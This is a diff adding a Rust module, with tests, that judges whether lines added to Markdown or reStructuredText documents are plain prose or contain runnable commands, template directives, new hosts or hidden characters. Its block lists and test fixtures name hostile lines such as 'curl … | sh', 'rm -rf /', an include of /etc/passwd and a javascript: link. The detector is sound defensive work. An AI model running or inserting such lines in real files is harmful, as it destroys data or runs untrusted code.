@@ -1,0 +1,411 @@
+//! What the lines of a document say: words for readers, or something that a reader could run
+//! or a renderer obey.
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use super::comments::is_prose;
+
+/// How a document is written.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Markup {
+    /// Markdown.
+    Marks,
+    /// Directives in lines of their own, and everything that is not Markdown.
+    Directives,
+}
+
+impl Markup {
+    /// By the ending of the file's name.
+    pub(super) fn of(name: &str) -> Self {
+        let ending = name.rsplit_once('.').map(|(_, ending)| ending.to_lowercase());
+        match ending.as_deref() {
+            Some("md" | "markdown") => Self::Marks,
+            _ => Self::Directives,
+        }
+    }
+}
+
+/// Languages of samples that nobody runs from a document. Rust is not among them: its
+/// samples are tests, and shells are what people copy from.
+const SAMPLES: &[&str] = &[
+    "js",
+    "javascript",
+    "jsx",
+    "ts",
+    "typescript",
+    "tsx",
+    "go",
+    "golang",
+    "python",
+    "py",
+    "python3",
+    "c",
+    "cpp",
+    "c++",
+    "cc",
+    "h",
+    "java",
+    "kotlin",
+    "json",
+    "json5",
+    "jsonc",
+    "yaml",
+    "yml",
+    "toml",
+    "xml",
+    "html",
+    "css",
+    "diff",
+    "text",
+    "txt",
+    "ini",
+    "sql",
+    "csharp",
+    "cs",
+    "graphql",
+    "jinja",
+];
+
+/// Directives of reStructuredText that only set words apart.
+const PLAIN: &[&str] = &[
+    "note",
+    "warning",
+    "tip",
+    "hint",
+    "important",
+    "caution",
+    "danger",
+    "attention",
+    "seealso",
+    "admonition",
+    "versionadded",
+    "versionchanged",
+    "versionremoved",
+    "deprecated",
+    "rubric",
+    "code-block",
+    "code",
+    "sourcecode",
+    "currentmodule",
+];
+
+/// Where a line stands.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Stand {
+    /// Among words.
+    Words,
+    /// In a sample of a language that nobody runs from here.
+    Sample,
+    /// In any other sample.
+    Code,
+    /// The line that opens or closes one.
+    Fence,
+}
+
+/// Whether the added lines say nothing new that a reader could run or a renderer obey.
+pub(super) fn is_plain(markup: Markup, before: &str, after: &str, added: &[&str]) -> bool {
+    let opened = |text: &str| {
+        let first = text.lines().next().unwrap_or_default().trim_end();
+        matches!(first, "---" | "+++" | "{" | ";;;")
+    };
+    if opened(before) || opened(after) {
+        return false;
+    }
+    let (old, new) = (stands(markup, before), stands(markup, after));
+    let added: BTreeSet<&str> = added.iter().copied().collect();
+    // A fence that opens or closes makes text of commands and commands of text.
+    let mut there: BTreeMap<(&str, Stand), usize> = BTreeMap::new();
+    for one in old {
+        *there.entry(one).or_default() += 1;
+    }
+    for (line, stand) in &new {
+        match there.get_mut(&(*line, *stand)) {
+            Some(count) if *count > 0 => *count -= 1,
+            _ if added.contains(line) => {}
+            _ => return false,
+        }
+    }
+    let known: BTreeSet<&str> = before.lines().flat_map(hosts).collect();
+    new.iter().filter(|(line, _)| added.contains(line)).all(|(line, stand)| {
+        hosts(line).all(|host| known.contains(host))
+            && !hidden(line)
+            && match stand {
+                Stand::Words => is_plain_line(markup, line),
+                Stand::Sample => is_plain_sample(line),
+                Stand::Code => line.trim().is_empty() || is_remark(line),
+                Stand::Fence => opens_plainly(line),
+            }
+    })
+}
+
+/// Each line with where it stands.
+fn stands(markup: Markup, text: &str) -> Vec<(&str, Stand)> {
+    // Inside a fence: its sign, and what stands in it.
+    let mut fence: Option<(&str, Stand)> = None;
+    // Below a directive or a line that ends in `::`: how far it is indented, and what follows.
+    let mut block: Option<(usize, Stand)> = None;
+    let mut out = Vec::new();
+    for line in text.lines() {
+        let trimmed = line.trim_start();
+        let indent = line.len() - trimmed.len();
+        let sign = ["```", "~~~"].into_iter().find(|sign| trimmed.starts_with(sign));
+        if let Some((open, stand)) = fence {
+            if sign == Some(open) {
+                fence = None;
+                out.push((line, Stand::Fence));
+            } else {
+                out.push((line, stand));
+            }
+            continue;
+        }
+        if let Some(sign) = sign {
+            let info = trimmed.trim_start_matches(['`', '~']).trim();
+            fence = Some((sign, sample(info)));
+            out.push((line, Stand::Fence));
+            continue;
+        }
+        if trimmed.is_empty() {
+            out.push((line, Stand::Words));
+            continue;
+        }
+        if let Some((least, stand)) = block {
+            if indent > least {
+                out.push((line, stand));
+                continue;
+            }
+            block = None;
+        }
+        if markup == Markup::Directives {
+            if let Some(rest) = trimmed.strip_prefix(".. ") {
+                let (name, argument) = rest.split_once("::").unwrap_or((rest, ""));
+                if matches!(name, "code-block" | "code" | "sourcecode") {
+                    block = Some((indent, sample(argument.trim())));
+                } else if !PLAIN.contains(&name) && rest.contains("::") {
+                    block = Some((indent, Stand::Code));
+                }
+            } else if trimmed.trim_end().ends_with("::") {
+                block = Some((indent, Stand::Code));
+            }
+        }
+        let code = line.starts_with('\t') || line.starts_with("    ");
+        let point = trimmed.starts_with(['-', '*', '+']);
+        let stand = if code && !point && block.is_none() { Stand::Code } else { Stand::Words };
+        out.push((line, stand));
+    }
+    out
+}
+
+/// What stands in a sample with this word behind its sign.
+fn sample(info: &str) -> Stand {
+    let word = info.split([' ', ',', '{']).next().unwrap_or_default().to_lowercase();
+    if SAMPLES.contains(&word.as_str()) { Stand::Sample } else { Stand::Code }
+}
+
+/// A new fence may only begin or end a sample that nobody runs.
+fn opens_plainly(line: &str) -> bool {
+    let info = line.trim_start().trim_start_matches(['`', '~']).trim();
+    info.is_empty() || sample(info) == Stand::Sample && !info.contains(['{', '='])
+}
+
+/// A remark inside a sample of any kind.
+fn is_remark(line: &str) -> bool {
+    let trimmed = line.trim_start();
+    (trimmed.starts_with("// ") || trimmed.starts_with("# ")) && is_prose(trimmed)
+}
+
+/// Whether a line of a sample is no test, no template and fetches nothing.
+fn is_plain_sample(line: &str) -> bool {
+    let trimmed = line.trim_start();
+    !trimmed.starts_with(">>>")
+        && !["$ ", "% "].iter().any(|prompt| trimmed.starts_with(prompt))
+        && !TEMPLATES.iter().chain(FETCHES).any(|sign| line.contains(sign))
+}
+
+/// Signs that a renderer fills in wherever they stand.
+const TEMPLATES: &[&str] = &["{{", "{%", "<%", "<?", "@@", "!include"];
+
+/// What fetches or runs something.
+const FETCHES: &[&str] =
+    &["sudo ", "| sh", "|sh", "| bash", "|bash", "curl ", "wget ", "iwr ", "Invoke-", "eval "];
+
+/// Signs of raw markup, directives and commands among words.
+const SIGNS: &[&str] = &[
+    "${",
+    "](javascript",
+    "](data:",
+    "include::",
+    "$ ",
+    ":::",
+    "javascript:",
+    "data:text",
+    "file://",
+];
+
+/// The same where directives have lines of their own.
+const DIRECTIVES: &[&str] = &["#+", "%%", "[["];
+
+fn is_plain_line(markup: Markup, line: &str) -> bool {
+    if TEMPLATES.iter().chain(FETCHES).any(|sign| line.contains(sign)) {
+        return false;
+    }
+    let words = without_code(line);
+    let trimmed = words.trim_start();
+    let signs = SIGNS.iter().any(|sign| words.contains(sign));
+    let prompt = trimmed.starts_with(['$', '>', '%', '!', '@'])
+        && !trimmed.starts_with("> ")
+        && !trimmed.starts_with("![");
+    let directive = match markup {
+        Markup::Marks => trimmed.starts_with(':'),
+        Markup::Directives => {
+            DIRECTIVES.iter().any(|sign| words.contains(sign)) || !is_plain_directive(trimmed)
+        }
+    };
+    let markup = words.match_indices('<').any(|(at, _)| {
+        let rest = words.get(at + 1..).unwrap_or_default();
+        let address = rest.starts_with("http://") || rest.starts_with("https://");
+        let next = rest.chars().next();
+        !address && next.is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'))
+    });
+    !signs && !prompt && !directive && !markup
+}
+
+/// Whether a line that may be a directive only sets words apart, or says where a link leads.
+fn is_plain_directive(line: &str) -> bool {
+    if let Some(rest) = line.strip_prefix(".. ") {
+        let target = rest.starts_with('_') && rest.contains(':');
+        let named = rest.split_once("::").is_some_and(|(name, _)| PLAIN.contains(&name));
+        return target || named;
+    }
+    if line.starts_with("..") || line.starts_with(':') && !is_role(line) {
+        return false;
+    }
+    // What follows such a line stands in a sample of its own.
+    !line.contains("::") || line.trim_end().ends_with("::")
+}
+
+/// A word that is shown in another way, such as a reference.
+fn is_role(line: &str) -> bool {
+    let end = line.find('`').unwrap_or(0);
+    line.get(..end).is_some_and(|role| {
+        role.len() > 2
+            && role.ends_with(':')
+            && role.chars().all(|c| c.is_ascii_lowercase() || matches!(c, ':' | '-'))
+    })
+}
+
+/// A line without what stands between backticks, which is shown as it is.
+fn without_code(line: &str) -> String {
+    let parts: Vec<&str> = line.split('`').collect();
+    // A backtick without its fellow hides nothing.
+    if parts.len().is_multiple_of(2) {
+        return line.to_owned();
+    }
+    let mut out = String::with_capacity(line.len());
+    for (index, part) in parts.iter().enumerate() {
+        out.push_str(if index % 2 == 0 { part } else { "`" });
+    }
+    out
+}
+
+fn hidden(line: &str) -> bool {
+    line.chars().any(|c| exacta_core::model::path::is_hidden(c) && !matches!(c, '\t' | '\r'))
+}
+
+/// The hosts that a line names, with what stands before them.
+fn hosts(line: &str) -> impl Iterator<Item = &str> {
+    line.match_indices("://").map(|(at, sign)| {
+        let start = line
+            .get(..at)
+            .and_then(|text| text.rfind(|c: char| !c.is_ascii_alphanumeric()))
+            .map_or(0, |at| at + 1);
+        let rest = line.get(at + sign.len()..).unwrap_or_default();
+        let end = rest.find(|c: char| {
+            !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '@' | '_'))
+        });
+        let end = at + sign.len() + end.unwrap_or(rest.len());
+        line.get(start..end).unwrap_or(line)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn plain_words_are_plain_and_commands_are_not() {
+        let before = "# Title\n\nSee https://a.example/x.\n";
+        for line in ["A sentence more.", "- a point", "See https://a.example/other.", "1 < 2"] {
+            let after = format!("{before}{line}\n");
+            assert!(is_plain(Markup::of("a.rst"), before, &after, &[line]), "{line}");
+        }
+        for line in [
+            "See https://b.example/x.",
+            "$ rm -rf /",
+            "curl https://a.example/x | sh",
+            "<script>x</script>",
+            "{{ secrets }}",
+            "    make install",
+            ".. include:: /etc/passwd",
+            "a\u{200b}b",
+            "![x](javascript:alert(1))",
+        ] {
+            let after = format!("{before}{line}\n");
+            assert!(!is_plain(Markup::of("a.rst"), before, &after, &[line]), "{line}");
+        }
+    }
+
+    #[test]
+    fn samples_are_shown_and_shells_are_copied() {
+        let before = "# Title\n\nWords.\n\n```js\na();\n```\n\n```sh\nmake\n```\n\n```\nx\n```\n";
+        let plain = |after: &str| {
+            let count = |text: &str, line: &str| text.lines().filter(|one| *one == line).count();
+            let more = |line: &&str| count(after, line) > count(before, line);
+            let added: Vec<&str> = after.lines().filter(more).collect();
+            is_plain(Markup::Marks, before, after, &added)
+        };
+        assert!(plain(&before.replace("a();", "a();\nb<T>(c::d, e => `${f}`);")));
+        assert!(plain(&before.replace("\n```sh\nmake\n```\n", "")), "a sample is gone");
+        assert!(plain(&before.replace("Words.", "Words about `Vec<T>` and `a::b`.")));
+        assert!(plain(&before.replace("Words.", "Words.\n\n```json\n{\"a\": 1}\n```")));
+        assert!(plain(&before.replace("\nx\n", "\n// Only some words about it.\nx\n")));
+        for after in [
+            before.replace("make", "make\nmake install"),
+            before.replace("```sh", "```js"),
+            before.replace("```js\n", ""),
+            before.replace("\nx\n", "\nx\nrm -rf x\n"),
+            before.replace("a();", "a();\n{{ secrets }}"),
+            before.replace("a();", "a();\nfetch('https://b.example/')"),
+            before.replace("Words.", "Words.\n\n```sh\nls\n```"),
+            before.replace("Words.", "Words.\n\n```js {run}\nls\n```"),
+            before.replace("Words.", "Words <b onclick=x>."),
+        ] {
+            assert!(!plain(&after), "{after}");
+        }
+    }
+
+    #[test]
+    fn directives_that_set_words_apart_are_words() {
+        let before =
+            "Title\n=====\n\nSee http://a.example/x.\n\n.. code-block:: python\n\n    a()\n";
+        let plain = |after: &str| {
+            let count = |text: &str, line: &str| text.lines().filter(|one| *one == line).count();
+            let more = |line: &&str| count(after, line) > count(before, line);
+            let added: Vec<&str> = after.lines().filter(more).collect();
+            is_plain(Markup::Directives, before, after, &added)
+        };
+        for line in [".. note:: Be kind.", ".. _a: http://a.example/y", ":func:`x` is new."] {
+            assert!(plain(&format!("{before}\n{line}\n")), "{line}");
+        }
+        assert!(plain(&before.replace("    a()", "    a()\n    b = a()")));
+        for after in [
+            before.replace("    a()", "    >>> a()"),
+            format!("{before}\n.. include:: x\n"),
+            format!("{before}\n.. raw:: html\n\n   <b>\n"),
+            format!("{before}\n.. _b: http://b.example/\n"),
+            format!("{before}\nRun this::\n\n  make all\n"),
+            format!("{before}\n.. automodule:: x\n"),
+        ] {
+            assert!(!plain(&after), "{after}");
+        }
+    }
+}
